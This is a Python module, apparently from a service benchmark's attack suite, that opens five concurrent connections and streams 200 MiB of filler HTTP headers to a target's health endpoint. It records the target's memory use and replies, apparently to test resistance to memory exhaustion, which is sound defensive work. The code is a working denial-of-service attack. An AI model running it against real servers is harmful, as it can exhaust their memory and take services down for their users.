"""Attack 1: heads of requests without an end, which a server keeps in memory until they are complete."""

from __future__ import annotations

import contextlib
import socket
import threading

from benchmarks.service.attacks.target import ATTACKER, MIB, Target

_CONNECTIONS, _MIB_EACH = 5, 200


def attack(target: Target) -> dict[str, str]:
    """Send five heads of 200 MiB at once."""
    before, replies = target.memory(), list[str]()
    threads = [threading.Thread(target=_send_head, args=(target, replies)) for _ in range(_CONNECTIONS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return {
        "memory before and after 5 heads of 200 MiB, MiB": f"{before:.0f} → {target.memory():.0f}",
        "answers to them": ", ".join(sorted(replies)),
    }


def _send_head(target: Target, replies: list[str]) -> None:
    line = b"X-Filler: " + b"x" * (MIB // 2 - 12) + b"\r\n"
    with target.connect(ATTACKER) as connection:
        reply = b""
        try:
            connection.sendall(b"GET /api/health/live HTTP/1.1\r\nHost: localhost\r\n")
            for _ in range(2 * _MIB_EACH):
                connection.sendall(line)
            connection.sendall(b"\r\n")
        except OSError:  # refused before the end
            pass
        with contextlib.suppress(OSError):
            connection.shutdown(socket.SHUT_WR)
            reply = connection.recv(100)
        replies.append(reply.split()[1].decode() if reply.startswith(b"HTTP/") else "closed")
